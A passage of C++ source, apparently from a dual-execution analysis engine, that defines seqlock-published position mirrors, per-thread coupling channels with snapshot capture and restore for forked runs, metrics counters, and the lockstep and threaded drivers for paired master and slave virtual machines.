 * diagnostic the poll fast path is judged by: blocked re-polls that
 * resolve through the lock-free mirrors leave it untouched.
 */
class CountingMutex
{
  public:
    void
    lock()
    {
        mu_.lock();
        acquisitions_.fetch_add(1, std::memory_order_relaxed);
    }

    bool
    try_lock()
    {
        if (!mu_.try_lock())
            return false;
        acquisitions_.fetch_add(1, std::memory_order_relaxed);
        return true;
    }

    void unlock() { mu_.unlock(); }

    std::uint64_t
    acquisitions() const
    {
        return acquisitions_.load(std::memory_order_relaxed);
    }

  private:
    std::mutex mu_;
    std::atomic<std::uint64_t> acquisitions_{0};
};

/**
 * Seqlock-published position snapshot: one side's Position plus its
 * saved counter stack, readable by the peer without the channel
 * mutex. Writers are already serialized under ThreadChannel::mutex;
 * readers retry while a write is in flight (odd sequence).
 */
class PosCell
{
  public:
    /** Stack levels mirrored; deeper stacks force the locked path. */
    static constexpr std::size_t kMaxDepth = 48;

    /** Publish @p p and @p stack (caller holds the channel mutex). */
    void
    publish(const Position &p, const std::vector<std::int64_t> &stack)
    {
        std::uint64_t s = seq_.load(std::memory_order_relaxed);
        seq_.store(s + 1, std::memory_order_relaxed);
        std::atomic_thread_fence(std::memory_order_release);
        kind_.store(static_cast<std::uint8_t>(p.kind),
                    std::memory_order_relaxed);
        cnt_.store(p.cnt, std::memory_order_relaxed);
        site_.store(p.site, std::memory_order_relaxed);
        iter_.store(p.iter, std::memory_order_relaxed);
        std::size_t depth = std::min(stack.size(), kMaxDepth);
        depth_.store(static_cast<std::uint32_t>(stack.size()),
                     std::memory_order_relaxed);
        for (std::size_t i = 0; i < depth; ++i)
            stack_[i].store(stack[i], std::memory_order_relaxed);
        seq_.store(s + 2, std::memory_order_release);
    }

    /**
     * Read a consistent snapshot into @p p / @p stack without any
     * lock; returns the (even) sequence it observed. @p truncated is
     * set when the published stack exceeded kMaxDepth, in which case
     * the caller must fall back to the locked path.
     */
    std::uint64_t
    read(Position &p, std::vector<std::int64_t> &stack,
         bool &truncated) const
    {
        for (;;) {
            std::uint64_t s1 = seq_.load(std::memory_order_acquire);
            if (s1 & 1)
                continue;
            p.kind = static_cast<PosKind>(
                kind_.load(std::memory_order_relaxed));
            p.cnt = cnt_.load(std::memory_order_relaxed);
            p.site = site_.load(std::memory_order_relaxed);
            p.iter = iter_.load(std::memory_order_relaxed);
            std::uint32_t depth =
                depth_.load(std::memory_order_relaxed);
            truncated = depth > kMaxDepth;
            std::size_t n = std::min<std::size_t>(depth, kMaxDepth);
            stack.clear();
            for (std::size_t i = 0; i < n; ++i)
                stack.push_back(
                    stack_[i].load(std::memory_order_relaxed));
            std::atomic_thread_fence(std::memory_order_acquire);
            if (seq_.load(std::memory_order_relaxed) == s1)
                return s1;
        }
    }

    /** Current sequence (cheap change detector for pollers). */
    std::uint64_t
    seq() const
    {
        return seq_.load(std::memory_order_acquire);
    }

    /**
     * Restore an exact published state, sequence included (snapshot
     * forking). Poll gates remember the sequence they were recorded
     * at, so a forked execution must resume from the captured value —
     * a publish-from-scratch would make every gate read as "peer
     * moved". Caller must be the only thread touching the cell.
     */
    void
    restore(std::uint64_t seq, const Position &p,
            const std::vector<std::int64_t> &stack)
    {
        publish(p, stack);
        seq_.store(seq, std::memory_order_release);
    }

  private:
    std::atomic<std::uint64_t> seq_{0};
    std::atomic<std::uint8_t> kind_{0};
    std::atomic<std::int64_t> cnt_{0};
    std::atomic<int> site_{-1};
    std::atomic<std::int64_t> iter_{0};
    std::atomic<std::uint32_t> depth_{0};
    std::array<std::atomic<std::int64_t>, kMaxDepth> stack_{};
};

/** Coupling state for one thread pair. */
struct ThreadChannel
{
    CountingMutex mutex;
    Position pos[2];
    /** Saved counter stacks (§6) published at push/pop. */
    std::vector<std::int64_t> cntStack[2];
    bool threadDone[2] = {false, false};
    std::deque<QueueEntry> queue;
    SinkSlot sink[2];
    BarrierPair barrier;

    /** Lock-free mirrors of pos[]/cntStack[] (see file comment). */
    PosCell posCell[2];

    /**
     * Bumped under the mutex on every structural mutation a blocked
     * waiter's decision could depend on (queue, sinks, barrier
     * pairing, threadDone). Position-only moves go through posCell
     * instead, so a busy peer does not force waiters onto the mutex.
     */
    std::atomic<std::uint64_t> stateVersion{0};

    void
    bumpVersion()
    {
        stateVersion.fetch_add(1, std::memory_order_release);
    }

    /** Publish @p side's position (mutex held). */
    void
    publishPos(int side, const Position &p)
    {
        pos[side] = p;
        posCell[side].publish(p, cntStack[side]);
    }

    /** Drop unconsumed queue entries (window closed). */
    void
    purgeQueue()
    {
        queue.clear();
        bumpVersion();
    }
};

/**
 * Value image of one thread pair's coupling state (snapshot forking).
 * posSeq / stateVersion are captured exactly so restored poll gates
 * stay coherent (gates compare versions for equality only, but they
 * must observe the values they were recorded against).
 */
struct ThreadChannelImage
{
    int tid = 0;
    Position pos[2];
    std::vector<std::int64_t> cntStack[2];
    bool threadDone[2] = {false, false};
    std::deque<QueueEntry> queue;
    SinkSlot sink[2];
    BarrierPair barrier;
    std::uint64_t posSeq[2] = {0, 0};
    std::uint64_t stateVersion = 0;
};

/**
 * Registry-backed channel tallies by value. A forked execution owns a
 * fresh metrics registry, but its run-level totals (some of which are
 * verdict-visible, e.g. aligned syscalls) must cover the shared
 * prefix too — the image is re-applied as increments at fork setup.
 */
struct ChannelCounterImage
{
    std::uint64_t alignedSyscalls = 0;
    std::uint64_t syscallDiffs = 0;
    std::uint64_t slaveSyscalls = 0;
    std::uint64_t barrierPairings = 0;
    std::uint64_t barrierSkips = 0;
    std::uint64_t copies = 0;
    std::uint64_t executes = 0;
    std::uint64_t decouples = 0;
    std::uint64_t sinkAligned = 0;
    std::uint64_t sinkDiffs = 0;
    std::uint64_t sinkVanished = 0;
    std::uint64_t blockedPolls = 0;
    std::uint64_t watchdogPolls = 0;
    std::uint64_t watchdogExpired = 0;
    std::uint64_t lockShares = 0;
    std::uint64_t lockDiverged = 0;
};

/**
 * Everything a SyncChannel holds, by value: what a snapshot captures
 * at the fork point and what fork setup restores into a fresh
 * channel. The wait-polls histogram is deliberately absent — prefix
 * waits were resolved before the capture and the histogram is purely
 * diagnostic.
 */
struct ChannelImage
{
    std::vector<ThreadChannelImage> threads;
    std::map<std::int64_t, std::vector<int>> lockOrder;
    std::map<std::int64_t, std::size_t> slaveLockIdx;
    std::uint64_t lockVersion = 0;
    std::set<std::string> taintKeys;
    std::uint64_t taintVersion = 0;
    std::vector<Finding> findings;
    std::vector<TraceEvent> trace;
    std::uint64_t progress[2] = {0, 0};
    bool sideFinished[2] = {false, false};
    ChannelCounterImage counters;
};

/** Whole-engine shared state. */
class SyncChannel
{
  public:
    /** Maximum entries kept per thread queue. */
    static constexpr std::size_t kQueueCap = 8192;

    /** Maximum in-memory TraceEvents retained. */
    static constexpr std::size_t kTraceCap = 100000;

    /**
     * All channel tallies live in the scope's metrics registry; the
     * cached handles below are the single source of truth the engine
     * reads back into DualResult, so registry totals and the legacy
     * counters agree by construction.
     */
    explicit SyncChannel(obs::Scope &scope)
        : alignedSyscalls(&scope.registry().counter("dual.syscalls.aligned")),
          syscallDiffs(&scope.registry().counter("dual.syscalls.diff")),
          slaveSyscalls(&scope.registry().counter("dual.syscalls.slave_total")),
          barrierPairings(&scope.registry().counter("dual.barrier.pairings")),
          barrierSkips(&scope.registry().counter("dual.barrier.skips")),
          copies(&scope.registry().counter("dual.align.copies")),
          executes(&scope.registry().counter("dual.align.executes")),
          decouples(&scope.registry().counter("dual.align.decouples")),
          sinkAligned(&scope.registry().counter("dual.sink.aligned")),
          sinkDiffs(&scope.registry().counter("dual.sink.diffs")),
          sinkVanished(&scope.registry().counter("dual.sink.vanished")),
          blockedPolls(&scope.registry().counter("chan.blocked_polls")),
          watchdogPolls(&scope.registry().counter("watchdog.polls")),
          watchdogExpired(&scope.registry().counter("watchdog.expired")),
          lockShares(&scope.registry().counter("lock.order_shared")),
          lockDiverged(&scope.registry().counter("lock.order_diverged")),
          waitPolls(&scope.registry().histogram(
              "chan.wait_polls",
              {0, 1, 4, 16, 64, 256, 1024, 4096, 16384, 65536})),
          scope_(scope)
    {
    }

    obs::Scope &scope() { return scope_; }

    /** Channel for thread pair @p tid (created on first use). */
    ThreadChannel &
    thread(int tid)
    {
        std::lock_guard<std::mutex> lock(mapMutex_);
        auto &slot = channels_[tid];
        if (!slot)
            slot = std::make_unique<ThreadChannel>();
        return *slot;
    }

    /** Mark a whole side finished (program ended or trapped). */
    void
    finishSide(Side side)
    {
        sideFinished_[static_cast<int>(side)].store(
            true, std::memory_order_release);
    }

    bool
    sideFinished(Side side) const
    {
        return sideFinished_[static_cast<int>(side)].load(
            std::memory_order_acquire);
    }

    // ---- lock acquisition order sharing (§7) ----
    std::mutex lockMutex;
    std::map<std::int64_t, std::vector<int>> lockOrder;
    std::map<std::int64_t, std::size_t> slaveLockIdx;
    /** Bumped whenever lockOrder/slaveLockIdx change (fast gates). */
    std::atomic<std::uint64_t> lockVersion{0};

    /**
     * Visit every thread channel (post-run diagnostics: the engine
     * snapshots positions/queues into the divergence report). The
     * callback runs under the map mutex; it must not call thread().
     */
    template <typename Fn>
    void
    forEachChannel(Fn fn)
    {
        std::lock_guard<std::mutex> lock(mapMutex_);
        for (auto &[tid, ch] : channels_)
            fn(tid, *ch);
    }

    /** Sum of every ThreadChannel mutex acquisition so far. */
    std::uint64_t
    totalMutexAcquisitions()
    {
        std::lock_guard<std::mutex> lock(mapMutex_);
        std::uint64_t total = 0;
        for (auto &[tid, ch] : channels_)
            total += ch->mutex.acquisitions();
        return total;
    }

    // ---- resource tainting ----
    os::ResourceTaintMap taints;

    // ---- findings & metrics ----
    void
    addFinding(Finding finding)
    {
        std::lock_guard<std::mutex> lock(findingsMutex_);
        findings_.push_back(std::move(finding));
    }

    std::vector<Finding>
    takeFindings()
    {
        std::lock_guard<std::mutex> lock(findingsMutex_);
        return std::move(findings_);
    }

    // ---- alignment trace (in-memory and/or structured sink) ----
    bool traceEnabled = false;

    /** True when recordEvent() would do anything (cheap pre-check). */
    bool
    wantsEvents() const
    {
        return traceEnabled || scope_.tracing();
    }

    /**
     * Record one alignment action: appended to the capped in-memory
     * trace when EngineConfig::recordTrace is set, and mirrored to the
     * scope's structured trace sink (per-side lanes) when one is
     * attached.
     */
    void
    recordEvent(const TraceEvent &evt)
    {
        if (traceEnabled) {
            std::lock_guard<std::mutex> lock(traceMutex_);
            if (trace_.size() < kTraceCap)
                trace_.push_back(evt);
        }
        if (scope_.tracing()) {
            obs::TraceRecord rec;
            rec.name = traceKindName(evt.kind);
            rec.lane = evt.side == Side::Master ? obs::kMasterLane
                                                : obs::kSlaveLane;
            rec.tid = evt.tid;
            rec.numArgs = {{"sys", evt.sysNo},
                           {"cnt", evt.cnt},
                           {"site", evt.site}};
            scope_.emit(std::move(rec));
        }
    }

    std::vector<TraceEvent>
    takeTrace()
    {
        std::lock_guard<std::mutex> lock(traceMutex_);
        return std::move(trace_);
    }

    // Registry-backed tallies (see docs/OBSERVABILITY.md).
    obs::Counter *alignedSyscalls;
    obs::Counter *syscallDiffs;
    obs::Counter *slaveSyscalls;
    obs::Counter *barrierPairings;
    obs::Counter *barrierSkips;
    obs::Counter *copies;
    obs::Counter *executes;
    obs::Counter *decouples;
    obs::Counter *sinkAligned;
    obs::Counter *sinkDiffs;
    obs::Counter *sinkVanished;
    obs::Counter *blockedPolls;
    obs::Counter *watchdogPolls;
    obs::Counter *watchdogExpired;
    obs::Counter *lockShares;
    obs::Counter *lockDiverged;
    obs::Histogram *waitPolls;

    /**
     * Capture every coupling-state component by value. Call only
     * while both drivers are quiesced (the snapshot trigger pauses
     * both machines first), so the locks taken here are uncontended
     * formalities.
     */
    ChannelImage
    captureImage()
    {
        ChannelImage img;
        forEachChannel([&](int tid, ThreadChannel &ch) {
            ThreadChannelImage t;
            t.tid = tid;
            std::lock_guard<CountingMutex> lock(ch.mutex);
            for (int s = 0; s < 2; ++s) {
                t.pos[s] = ch.pos[s];
                t.cntStack[s] = ch.cntStack[s];
                t.threadDone[s] = ch.threadDone[s];
                t.sink[s] = ch.sink[s];
                t.posSeq[s] = ch.posCell[s].seq();
            }
            t.queue = ch.queue;
            t.barrier = ch.barrier;
            t.stateVersion =
                ch.stateVersion.load(std::memory_order_acquire);
            img.threads.push_back(std::move(t));
        });
        {
            std::lock_guard<std::mutex> lock(lockMutex);
            img.lockOrder = lockOrder;
            img.slaveLockIdx = slaveLockIdx;
            img.lockVersion =
                lockVersion.load(std::memory_order_acquire);
        }
        img.taintKeys = taints.snapshot();
        img.taintVersion = taints.version();
        {
            std::lock_guard<std::mutex> lock(findingsMutex_);
            img.findings = findings_;
        }
        {
            std::lock_guard<std::mutex> lock(traceMutex_);
            img.trace = trace_;
        }
        for (int s = 0; s < 2; ++s) {
            img.progress[s] =
                progress[s].load(std::memory_order_acquire);
            img.sideFinished[s] =
                sideFinished_[s].load(std::memory_order_acquire);
        }
        img.counters.alignedSyscalls = alignedSyscalls->value();
        img.counters.syscallDiffs = syscallDiffs->value();
        img.counters.slaveSyscalls = slaveSyscalls->value();
        img.counters.barrierPairings = barrierPairings->value();
        img.counters.barrierSkips = barrierSkips->value();
        img.counters.copies = copies->value();
        img.counters.executes = executes->value();
        img.counters.decouples = decouples->value();
        img.counters.sinkAligned = sinkAligned->value();
        img.counters.sinkDiffs = sinkDiffs->value();
        img.counters.sinkVanished = sinkVanished->value();
        img.counters.blockedPolls = blockedPolls->value();
        img.counters.watchdogPolls = watchdogPolls->value();
        img.counters.watchdogExpired = watchdogExpired->value();
        img.counters.lockShares = lockShares->value();
        img.counters.lockDiverged = lockDiverged->value();
        return img;
    }

    /**
     * Restore a captured image into this freshly constructed channel
     * (fork setup). Tallies are re-applied as increments into this
     * channel's own registry; version counters (posCell sequences,
     * stateVersion, taint/lock versions) are restored exactly so the
     * forked controllers' restored poll gates stay coherent.
     */
    void
    restoreImage(const ChannelImage &img)
    {
        for (const ThreadChannelImage &t : img.threads) {
            ThreadChannel &ch = thread(t.tid);
            std::lock_guard<CountingMutex> lock(ch.mutex);
            for (int s = 0; s < 2; ++s) {
                ch.pos[s] = t.pos[s];
                ch.cntStack[s] = t.cntStack[s];
                ch.threadDone[s] = t.threadDone[s];
                ch.sink[s] = t.sink[s];
                ch.posCell[s].restore(t.posSeq[s], t.pos[s],
                                      t.cntStack[s]);
            }
            ch.queue = t.queue;
            ch.barrier = t.barrier;
            ch.stateVersion.store(t.stateVersion,
                                  std::memory_order_release);
        }
        {
            std::lock_guard<std::mutex> lock(lockMutex);
            lockOrder = img.lockOrder;
            slaveLockIdx = img.slaveLockIdx;
            lockVersion.store(img.lockVersion,
                              std::memory_order_release);
        }
        taints.restore(img.taintKeys, img.taintVersion);
        {
            std::lock_guard<std::mutex> lock(findingsMutex_);
            findings_ = img.findings;
        }
        {
            std::lock_guard<std::mutex> lock(traceMutex_);
            trace_ = img.trace;
        }
        for (int s = 0; s < 2; ++s) {
            progress[s].store(img.progress[s],
                              std::memory_order_release);
            sideFinished_[s].store(img.sideFinished[s],
                                   std::memory_order_release);
        }
        alignedSyscalls->inc(img.counters.alignedSyscalls);
        syscallDiffs->inc(img.counters.syscallDiffs);
        slaveSyscalls->inc(img.counters.slaveSyscalls);
        barrierPairings->inc(img.counters.barrierPairings);
        barrierSkips->inc(img.counters.barrierSkips);
        copies->inc(img.counters.copies);
        executes->inc(img.counters.executes);
        decouples->inc(img.counters.decouples);
        sinkAligned->inc(img.counters.sinkAligned);
        sinkDiffs->inc(img.counters.sinkDiffs);
        sinkVanished->inc(img.counters.sinkVanished);
        blockedPolls->inc(img.counters.blockedPolls);
        watchdogPolls->inc(img.counters.watchdogPolls);
        watchdogExpired->inc(img.counters.watchdogExpired);
        lockShares->inc(img.counters.lockShares);
        lockDiverged->inc(img.counters.lockDiverged);
    }

    /** Progress heartbeat for the deadlock watchdog. */
    std::atomic<std::uint64_t> progress[2] = {0, 0};

    /** Engine-level abort: every wait gives up immediately. */
    std::atomic<bool> abort{false};

  private:
    obs::Scope &scope_;
    std::mutex traceMutex_;
    std::vector<TraceEvent> trace_;
    std::mutex mapMutex_;
    std::map<int, std::unique_ptr<ThreadChannel>> channels_;
    std::atomic<bool> sideFinished_[2] = {false, false};
    std::mutex findingsMutex_;
    std::vector<Finding> findings_;
};

} // namespace ldx::core
