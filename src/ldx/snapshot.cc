#include "ldx/snapshot.h"

#include <algorithm>
#include <chrono>
#include <limits>
#include <thread>

#include "instrument/instrument.h"
#include "os/sysno.h"
#include "support/diag.h"

namespace ldx::core {

namespace {

double
secondsSince(std::chrono::steady_clock::time_point t0)
{
    return std::chrono::duration<double>(
               std::chrono::steady_clock::now() - t0)
        .count();
}

/** CPU-relax hint for the spin stage of the stall backoff. */
inline void
cpuRelax()
{
#if defined(__x86_64__) || defined(__i386__)
    __builtin_ia32_pause();
#elif defined(__aarch64__)
    asm volatile("yield");
#else
    std::this_thread::yield();
#endif
}

/** Publish one side's VM and kernel tallies into the registry. */
void
publishSideStats(obs::Registry &registry, const std::string &side,
                 const vm::MachineStats &ms, const os::KernelStats &ks)
{
    const std::string vm_prefix = "vm." + side + ".";
    registry.counter(vm_prefix + "instructions").inc(ms.instructions);
    registry.counter(vm_prefix + "syscalls").inc(ms.syscalls);
    registry.counter(vm_prefix + "barriers").inc(ms.barriers);
    registry.counter(vm_prefix + "mix.data").inc(ms.mixData);
    registry.counter(vm_prefix + "mix.alu").inc(ms.mixAlu);
    registry.counter(vm_prefix + "mix.mem").inc(ms.mixMem);
    registry.counter(vm_prefix + "mix.call").inc(ms.mixCall);
    registry.counter(vm_prefix + "mix.branch").inc(ms.mixBranch);
    registry.counter(vm_prefix + "mix.syscall").inc(ms.mixSyscall);
    registry.counter(vm_prefix + "mix.counter").inc(ms.mixCounter);
    registry.gauge(vm_prefix + "max_cnt")
        .set(static_cast<double>(ms.maxCnt));
    registry.gauge(vm_prefix + "avg_cnt").set(ms.avgCnt);

    const std::string os_prefix = "os." + side + ".";
    registry.counter(os_prefix + "executes").inc(ks.executes);
    registry.counter(os_prefix + "replays").inc(ks.replays);
    registry.counter(os_prefix + "vfs_ops").inc(ks.vfsOps);
    registry.counter(os_prefix + "sock_ops").inc(ks.sockOps);
    registry.counter(os_prefix + "console_ops").inc(ks.consoleOps);
    registry.counter(os_prefix + "nondet_ops").inc(ks.nondetOps);
}

bool
settled(const vm::Machine &m)
{
    return m.finished() || m.pauseRequested();
}

} // namespace

DualRun::DualRun(const ir::Module &module, const os::WorldSpec &world,
                 EngineConfig cfg)
    : module_(module), world_(world), cfg_(std::move(cfg))
{
    if (!instrument::isInstrumented(module_))
        fatal("DualRun requires a counter-instrumented module");
    setupFresh();
}

DualRun::DualRun(const ir::Module &module, const os::WorldSpec &world,
                 EngineConfig cfg, const DualSnapshot &snap,
                 std::uint64_t chaos_drop_page)
    : module_(module), world_(world), cfg_(std::move(cfg))
{
    if (!instrument::isInstrumented(module_))
        fatal("DualRun requires a counter-instrumented module");
    setupFork(snap, chaos_drop_page);
}

DualRun::~DualRun() = default;

void
DualRun::setupFresh()
{
    registry_ = cfg_.registry ? cfg_.registry : &localRegistry_;
    if (cfg_.flightRecorder)
        recorder_.emplace(cfg_.recorderCapacity);
    scope_.emplace(*registry_, cfg_.traceSink,
                   recorder_ ? &*recorder_ : nullptr);
    if (cfg_.traceSink) {
        cfg_.traceSink->setLaneName(obs::kMasterLane, "master");
        cfg_.traceSink->setLaneName(obs::kSlaveLane, "slave");
        cfg_.traceSink->setLaneName(obs::kPipelineLane, "pipeline");
    }
    timer_.emplace(cfg_.traceSink);

    timer_->begin("mutate");
    Prng mutation_prng(cfg_.mutationSeed);
    mutated_ = mutateWorld(world_, cfg_.sources, cfg_.strategy,
                           mutation_prng);
    os::WorldSpec slave_world =
        mutated_.world.withNondetVariant(cfg_.nondetSalt);
    timer_->end();

    timer_->begin("setup");
    chan_.emplace(*scope_);
    chan_->traceEnabled = cfg_.recordTrace;
    for (const std::string &key : mutated_.taintKeys) {
        chan_->taints.taint(key);
        if (recorder_) {
            // The mutation events open the slave's timeline: the first
            // divergence in a report is always downstream of one.
            obs::RecEvent evt;
            evt.kind = obs::RecKind::Mutation;
            evt.arg = obs::fnv1a(key);
            recorder_->record(obs::kSlaveLane, evt);
        }
    }

    masterKernel_.emplace(world_);
    slaveKernel_.emplace(slave_world);
    slaveKernel_->setSuppressOutputs(true);
    masterKernel_->setObs(&*scope_, obs::kMasterLane);
    slaveKernel_->setObs(&*scope_, obs::kSlaveLane);

    vm::MachineConfig master_cfg = cfg_.vmConfig;
    vm::MachineConfig slave_cfg = cfg_.vmConfig;
    slave_cfg.schedSeed += cfg_.slaveSchedSeedDelta;
    if (cfg_.slaveSchedSeedDelta)
        slave_cfg.schedJitter = true;
    master_cfg.siteProfile = cfg_.masterSites;
    slave_cfg.siteProfile = cfg_.slaveSites;

    master_.emplace(module_, *masterKernel_, master_cfg);
    slave_.emplace(module_, *slaveKernel_, slave_cfg);
    master_->setObs(&*scope_, obs::kMasterLane);
    slave_->setObs(&*scope_, obs::kSlaveLane);

    auto sink_pred = [this](const std::string &channel) {
        return cfg_.sinks.matchesChannel(channel);
    };
    ControllerOptions mo;
    mo.side = Side::Master;
    mo.isSinkChannel = sink_pred;
    mo.shareLockOrder = cfg_.shareLockOrder;
    mo.lockPollTimeout = cfg_.lockPollTimeout;
    mo.stallTimeout = cfg_.stallTimeout;
    mo.stalls =
        cfg_.masterSites ? &cfg_.masterSites->gateStalls : nullptr;
    mo.trigger = cfg_.trigger;
    ControllerOptions so = mo;
    so.side = Side::Slave;
    so.stalls = cfg_.slaveSites ? &cfg_.slaveSites->gateStalls : nullptr;
    masterCtl_.emplace(*chan_, mo);
    slaveCtl_.emplace(*chan_, so);
    master_->setSyscallPort(&*masterCtl_);
    slave_->setSyscallPort(&*slaveCtl_);

    masterRec_.emplace(cfg_.sinks.retTokens, cfg_.sinks.allocSizes);
    slaveRec_.emplace(cfg_.sinks.retTokens, cfg_.sinks.allocSizes);
    if (cfg_.sinks.retTokens || cfg_.sinks.allocSizes) {
        master_->setSinkHook(&*masterRec_);
        slave_->setSinkHook(&*slaveRec_);
    }
    timer_->end(); // setup
}

void
DualRun::setupFork(const DualSnapshot &snap,
                   std::uint64_t chaos_drop_page)
{
    registry_ = cfg_.registry ? cfg_.registry : &localRegistry_;
    if (cfg_.flightRecorder)
        recorder_.emplace(cfg_.recorderCapacity);
    scope_.emplace(*registry_, cfg_.traceSink,
                   recorder_ ? &*recorder_ : nullptr);
    if (cfg_.traceSink) {
        cfg_.traceSink->setLaneName(obs::kMasterLane, "master");
        cfg_.traceSink->setLaneName(obs::kSlaveLane, "slave");
        cfg_.traceSink->setLaneName(obs::kPipelineLane, "pipeline");
    }
    timer_.emplace(cfg_.traceSink);

    // Same phase sequence as a full run: the fork re-derives its own
    // policy's mutated world (cheap), then restores the shared prefix
    // state instead of re-executing it.
    timer_->begin("mutate");
    Prng mutation_prng(cfg_.mutationSeed);
    mutated_ = mutateWorld(world_, cfg_.sources, cfg_.strategy,
                           mutation_prng);
    os::WorldSpec slave_world =
        mutated_.world.withNondetVariant(cfg_.nondetSalt);
    timer_->end();

    timer_->begin("setup");
    chan_.emplace(*scope_);
    chan_->traceEnabled = cfg_.recordTrace;
    // The captured taint set already holds the pre-taints (they are
    // policy-independent: same source, same keys) plus any runtime
    // taints from the prefix; restoreImage brings them all back.
    chan_->restoreImage(snap.channel);
    if (recorder_) {
        // Replay the prefix's event streams so the fork's recorder
        // order matches a full run's (timestamps are re-stamped; they
        // are wall-clock and never byte-compared).
        for (int side = 0; side < 2; ++side)
            for (const obs::RecEvent &evt : snap.recEvents[side])
                recorder_->record(side, evt);
    }

    masterKernel_.emplace(snap.kernel[0]);
    slaveKernel_.emplace(snap.kernel[1]);
    slaveKernel_->patchWorld(slave_world);
    masterKernel_->setObs(&*scope_, obs::kMasterLane);
    slaveKernel_->setObs(&*scope_, obs::kSlaveLane);

    vm::MachineConfig master_cfg = cfg_.vmConfig;
    vm::MachineConfig slave_cfg = cfg_.vmConfig;
    slave_cfg.schedSeed += cfg_.slaveSchedSeedDelta;
    if (cfg_.slaveSchedSeedDelta)
        slave_cfg.schedJitter = true;
    master_cfg.siteProfile = cfg_.masterSites;
    slave_cfg.siteProfile = cfg_.slaveSites;

    master_.emplace(module_, *masterKernel_, master_cfg);
    slave_.emplace(module_, *slaveKernel_, slave_cfg);
    master_->restoreImage(snap.machine[0]);
    slave_->restoreImage(snap.machine[1], chaos_drop_page);
    master_->setObs(&*scope_, obs::kMasterLane);
    slave_->setObs(&*scope_, obs::kSlaveLane);

    auto sink_pred = [this](const std::string &channel) {
        return cfg_.sinks.matchesChannel(channel);
    };
    ControllerOptions mo;
    mo.side = Side::Master;
    mo.isSinkChannel = sink_pred;
    mo.shareLockOrder = cfg_.shareLockOrder;
    mo.lockPollTimeout = cfg_.lockPollTimeout;
    mo.stallTimeout = cfg_.stallTimeout;
    mo.stalls =
        cfg_.masterSites ? &cfg_.masterSites->gateStalls : nullptr;
    mo.trigger = cfg_.trigger;
    ControllerOptions so = mo;
    so.side = Side::Slave;
    so.stalls = cfg_.slaveSites ? &cfg_.slaveSites->gateStalls : nullptr;
    masterCtl_.emplace(*chan_, mo);
    slaveCtl_.emplace(*chan_, so);
    masterCtl_->restoreImage(snap.controller[0]);
    slaveCtl_->restoreImage(snap.controller[1]);
    master_->setSyscallPort(&*masterCtl_);
    slave_->setSyscallPort(&*slaveCtl_);

    masterRec_.emplace(cfg_.sinks.retTokens, cfg_.sinks.allocSizes);
    slaveRec_.emplace(cfg_.sinks.retTokens, cfg_.sinks.allocSizes);
    masterRec_->corruptions = snap.corruptions[0];
    masterRec_->allocs = snap.allocs[0];
    slaveRec_->corruptions = snap.corruptions[1];
    slaveRec_->allocs = snap.allocs[1];
    if (cfg_.sinks.retTokens || cfg_.sinks.allocSizes) {
        master_->setSinkHook(&*masterRec_);
        slave_->setSinkHook(&*slaveRec_);
    }

    needStart_ = false; // machines resume mid-run from the image
    timer_->end(); // setup
}

bool
DualRun::drive()
{
    if (finished())
        return false;
    if (!running_) {
        running_ = true;
        t0_ = std::chrono::steady_clock::now();
        driverYields_ = &registry_->counter("driver.yields");
        driverIdle_ = &registry_->counter("driver.idle_rounds");
        driverBackoff_ = &registry_->counter("driver.backoff_ns");
        timer_->begin("dual-run");
        if (needStart_) {
            master_->start();
            slave_->start();
            needStart_ = false;
        }
    }
    if (cfg_.threaded)
        driveThreaded();
    else
        driveLockstep();
    if (finished()) {
        timer_->end(); // dual-run
        running_ = false;
    }
    return master_->pauseRequested() || slave_->pauseRequested();
}

void
DualRun::driveLockstep()
{
    const std::uint64_t kQuantum =
        cfg_.lockstepQuantum
            ? cfg_.lockstepQuantum
            : std::numeric_limits<std::uint64_t>::max();
    std::uint64_t idle_rounds = 0;
    while (!(settled(*master_) && settled(*slave_))) {
        bool progressed = false;
        for (int side = 0; side < 2; ++side) {
            vm::Machine &m = side == 0 ? *master_ : *slave_;
            if (settled(m))
                continue;
            std::uint64_t got = 0;
            m.stepMany(kQuantum, got);
            if (got) {
                progressed = true;
                chan_->progress[side].fetch_add(
                    got, std::memory_order_relaxed);
            }
        }
        if (progressed) {
            idle_rounds = 0;
        } else {
            driverIdle_->inc();
            if (++idle_rounds % 8192 == 0 &&
                secondsSince(t0_) > cfg_.wallClockCap) {
                deadlocked_ = true;
                chan_->abort.store(true, std::memory_order_release);
            }
        }
    }
}

void
DualRun::driveThreaded()
{
    const DriverConfig dc = cfg_.driver;
    SyncChannel &chan = *chan_;
    obs::PhaseTimer &timer = *timer_;
    obs::Counter *driver_yields = driverYields_;
    obs::Counter *driver_backoff = driverBackoff_;
    auto loop = [&chan, &timer, dc, driver_yields,
                 driver_backoff](vm::Machine &m, int side) {
        std::int64_t start_us = obs::nowUs();
        auto side_t0 = std::chrono::steady_clock::now();
        std::uint64_t stalls = 0;
        while (!m.finished() && !m.pauseRequested()) {
            std::uint64_t got = 0;
            vm::StepStatus st = m.stepMany(128, got);
            if (got)
                chan.progress[side].fetch_add(
                    got, std::memory_order_relaxed);
            if (st == vm::StepStatus::Progress) {
                stalls = 0;
            } else if (st == vm::StepStatus::Stalled) {
                if (got) {
                    stalls = 0;
                    continue; // partial batch: poll again at once
                }
                if (m.pauseRequested())
                    break;
                ++stalls;
                if (stalls <= dc.spinCount) {
                    cpuRelax();
                } else if (stalls <= std::uint64_t{dc.spinCount} +
                                         dc.yieldCount) {
                    driver_yields->inc();
                    std::this_thread::yield();
                } else {
                    driver_yields->inc();
                    auto b0 = std::chrono::steady_clock::now();
                    std::this_thread::sleep_for(
                        std::chrono::microseconds(dc.sleepMicros));
                    driver_backoff->inc(static_cast<std::uint64_t>(
                        std::chrono::duration_cast<
                            std::chrono::nanoseconds>(
                            std::chrono::steady_clock::now() - b0)
                            .count()));
                }
            } else {
                break;
            }
        }
        timer.record(side == 0 ? "master-run" : "slave-run", 1,
                     start_us, secondsSince(side_t0));
    };
    std::thread mt(loop, std::ref(*master_), 0);
    std::thread st(loop, std::ref(*slave_), 1);
    while (!(settled(*master_) && settled(*slave_))) {
        std::this_thread::sleep_for(std::chrono::milliseconds(5));
        if (secondsSince(t0_) > cfg_.wallClockCap) {
            deadlocked_ = true;
            chan_->abort.store(true, std::memory_order_release);
        }
    }
    mt.join();
    st.join();
}

bool
DualRun::finished() const
{
    return master_ && slave_ && master_->finished() &&
           slave_->finished();
}

DualSnapshot
DualRun::capture()
{
    checkInvariant(settled(*master_) && settled(*slave_),
                   "capture requires both machines settled");
    DualSnapshot snap;
    snap.machine[0] = master_->captureImage();
    snap.machine[1] = slave_->captureImage();
    snap.kernel[0] = *masterKernel_;
